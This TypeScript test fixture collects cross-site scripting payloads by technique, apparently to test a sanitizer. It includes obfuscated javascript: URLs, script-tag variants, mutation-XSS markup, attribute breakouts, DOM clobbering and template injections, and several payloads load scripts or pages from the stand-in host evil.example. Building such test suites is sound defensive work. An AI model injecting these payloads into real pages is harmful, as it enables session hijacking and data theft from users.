import { hostileMarkdown } from '#tests/src/shared/hostile-markdown.ts';
import { automaticEventVectors, interactionVectors } from './events.ts';

/**
 * Texts that try to run a script, by technique. Most lists combine every element with every spelling. A text that succeeds calls `alert(1)` or
 * requests something from `evil.example`.
 */
const script = 'alert(1)';

const addresses = [
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  ` javascript:${script}`,
  `\u0001javascript:${script}`,
  `java\tscript:${script}`,
  `java\nscript:${script}`,
  `java&Tab;script:${script}`,
  `java&NewLine;script:${script}`,
  `javascript&colon;${script}`,
  `&#106;avascript:${script}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${script}`,
  `&#0000106avascript:${script}`,
  `javascript://https://a.example/%0A${script}`,
  `jav\u0000ascript:${script}`,
  `\u00a0javascript:${script}`,
  `data:text/html,<script>${script}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script}'/>`,
  `vbscript:${script}`,
  `blob:https://a.example/${script}`,
  `//evil.example/x`,
  `https://evil.example/x`,
];
const addressMarkup = [
  '<a href="ADDRESS">x</a>',
  '<img src="ADDRESS">',
  '<iframe src="ADDRESS"></iframe>',
  '<form action="ADDRESS"><button>x</button></form>',
  '<button formaction="ADDRESS">x</button>',
  '<object data="ADDRESS"></object>',
  '<embed src="ADDRESS">',
  '<video poster="ADDRESS" src="ADDRESS"></video>',
  '<source src="ADDRESS" srcset="ADDRESS 2x">',
  '<svg><a xlink:href="ADDRESS"><text>x</text></a></svg>',
  '<math href="ADDRESS">x</math>',
];

const scripts = [
  `<script>${script}</script>`,
  `<SCRIPT>${script}</SCRIPT>`,
  `<script\t>${script}</script >`,
  `<script/x>${script}</script/x>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${script}</script>`,
  `<script>${script}`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<<script>${script}//<</script>`,
  `<script x>${script}</script x`,
  `<svg><script>${script}</script></svg>`,
  `<svg><script href=data:,${script} /></svg>`,
  `<math><script>${script}</script></math>`,
  `<template><script>${script}</script></template>`,
  `<script><!--\n${script}\n--></script>`,
  `\u0000<script>${script}</script>`,
  `<scr\u0000ipt>${script}</scr\u0000ipt>`,
  `＜script＞${script}＜/script＞`,
  `+ADw-script+AD4-${script}+ADw-/script+AD4-`,
  `<script>/*</script>${script}/*<script>*/`,
];

const reparsedMarkup = [
  ...[
    'noscript',
    'noembed',
    'noframes',
    'title',
    'textarea',
    'xmp',
    'style',
    'plaintext',
    'template',
    'select',
    'option',
    'iframe',
  ].flatMap((tag) => [
    `<${tag}><p title="</${tag}><img src=x onerror=${script}>">`,
    `<svg><${tag}><img src=x onerror=${script}></${tag}></svg>`,
    `<math><${tag}><img src=x onerror=${script}></${tag}></math>`,
    `<${tag}></${tag}/><img src=x onerror=${script}>`,
  ]),
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${script}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${script}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${script}>">`,
  `<math></br><style><!--</style><img src=x onerror=${script}>--></math>`,
  `<svg><desc><noscript><img src="</noscript><img src=x onerror=${script}>"></desc></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${script}</script>"></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${script}'/></svg>#x"/></svg>`,
  `<svg><set attributeName="onmouseover" to="${script}"/></svg>`,
  `<svg><animate href="#a" attributeName="href" values="javascript:${script}"/><a id="a"><text>x</text></a></svg>`,
  `<!--><img src=x onerror=${script}>-->`,
  `<!--!><img src=x onerror=${script}>--!>`,
  `<!-- --!><img src=x onerror=${script}>`,
  `<![CDATA[><img src=x onerror=${script}>]]>`,
  `<?xml ?><img src=x onerror=${script}>?>`,
  `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${script}>">]>&y;`,
  `</div></article></main><img src=x onerror=${script}>`,
  `</script><img src=x onerror=${script}>`,
  `</title><img src=x onerror=${script}>`,
  `]]><img src=x onerror=${script}>`,
  `\u2028</script><script>${script}</script>`,
];

const attributes = [
  `"><img src=x onerror=${script}>`,
  `'><img src=x onerror=${script}>`,
  `\`><img src=x onerror=${script}>`,
  `" autofocus onfocus=${script} x="`,
  `' autofocus onfocus=${script} x='`,
  `"onload="${script}`,
  `<a title="x" title='"><img src=x onerror=${script}>'>x</a>`,
  `<a href="https://a.example/"onmouseover="${script}">x</a>`,
  `<img alt="\`><img src=x onerror=${script}>" src=x>`,
  `<img src="/media/x.png" alt="x" onerror=${script}>`,
  `<p id="x" class="y" style="background:url(javascript:${script})">x</p>`,
  `<a href='javascript:${script}' href='https://a.example'>x</a>`,
  `<img src=x:x onerror=${script} src=/media/x.png>`,
  `<a data-x='"><script>${script}</script>'>x</a>`,
  `&quot;&gt;&lt;img src=x onerror=${script}&gt;`,
  `%22%3E%3Cimg%20src=x%20onerror=${script}%3E`,
];

const frames = [
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://evil.example/www.youtube.com"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/"></iframe>',
  '<iframe src="https://evil.example#https://www.youtube.com"></iframe>',
  '<iframe src="https:\\\\evil.example\\www.youtube.com"></iframe>',
  '<iframe src="https:evil.example"></iframe>',
  '<iframe src="/media/news/x.html"></iframe>',
  '<iframe src="/\\evil.example"></iframe>',
  '<iframe src="///evil.example"></iframe>',
  '<iframe src="http://evil.example"></iframe>',
  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${script}&lt;/script&gt;" src="https://player.vimeo.com/video/x"></iframe>`.replace(
    ' src="https://player.vimeo.com/video/x"',
    '',
  ),
  '<iframe src="about:blank" onload="alert(1)"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<portal src="https://evil.example"></portal>',
  '<fencedframe src="https://evil.example"></fencedframe>',
];

const pageWide = [
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  `<meta http-equiv="refresh" content="0;url=javascript:${script}">`,
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="prefetch" href="https://evil.example/x">',
  '<link rel="import" href="https://evil.example/x">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(https://evil.example/x)}</style>',
  `<style>*{x:expression(${script})}</style>`,
  '<p style="background:url(https://evil.example/x)">x</p>',
  `<p style="-moz-binding:url(https://evil.example/x)">x</p>`,
  `<p style="behavior:url(https://evil.example/x)">x</p>`,
  '<body background="https://evil.example/x">',
  '<table background="https://evil.example/x"><tr><td background="https://evil.example/x">x</td></tr></table>',
  '<input type="image" src="https://evil.example/x">',
  '<picture><source srcset="https://evil.example/x"><img src="https://evil.example/x"></picture>',
  '<video><track default src="https://evil.example/x"></video>',
  '<audio src="https://evil.example/x" autoplay></audio>',
  '<a href="https://a.example" ping="https://evil.example/x">x</a>',
  '<applet code="x" archive="https://evil.example/x.jar"></applet>',
  '<object type="text/html" data="https://evil.example/x"></object>',
  '<isindex action="javascript:alert(1)" type=submit value=x>',
  '<dialog open><form method=dialog><button autofocus onfocus=alert(1)>x</button></form></dialog>',
];

const clobbering = [
  'document',
  'body',
  'cookie',
  'location',
  'getElementById',
  'querySelector',
  '__proto__',
  'constructor',
  'forms',
  'head',
].flatMap((name) => [
  `<a id="${name}"></a><a id="${name}" name="href" href="https://evil.example">x</a>`,
  `<form id="${name}"><input name="attributes"><input name="innerHTML"></form>`,
  `<img name="${name}" id="${name}">`,
]);

const inPlaceholders = [
  `[[image:"><img src=x onerror=${script}>]]`,
  `[[image:<script>${script}</script>]]`,
  `<a title="[[image:cover]]" href="https://a.example">x</a>`,
  `<img alt="[[image:cover]]" src="/media/[[image:cover]]">`,
  `<a href="[[image:cover]]">[[image:cover]]</a>`,
  `<td title='[[image:cover]]'>[[image:cover]]`,
  `<style>[[image:cover]]</style>`,
  `<script>[[image:cover]]</script>`,
  `[[image:[[image:cover]]]]`,
  `<!--[[image:cover]]-->`,
  `{{constructor.constructor('${script}')()}}`,
  `\${${script}}`,
  `<%= ${script} %>`,
  `#{${script}}`,
  `{{rate CODE}}`,
];

/** All texts by technique. */
export const vectors: Record<string, readonly string[]> = {
  'a script element': scripts,
  'an event that fires without interaction': automaticEventVectors,
  'an event that needs an interaction': interactionVectors,
  'an address that runs a script or loads a file': addressMarkup.flatMap((markup) =>
    addresses.map((address) => markup.replaceAll('ADDRESS', address)),
  ),
  'markup that a second parser reads differently': reparsedMarkup,
  'a quotation mark that ends an attribute': attributes,
  'a frame with a disguised address': frames,
  'markup that changes the whole page or loads from another site': pageWide,
  'names that hide properties of the document': clobbering,
  'placeholders and templates': inPlaceholders,
  ...Object.fromEntries(Object.entries(hostileMarkdown).map(([technique, texts]) => [`Markdown: ${technique}`, texts])),
};

/** All texts without repeats. */
export const allVectors: readonly string[] = [...new Set(Object.values(vectors).flat())];
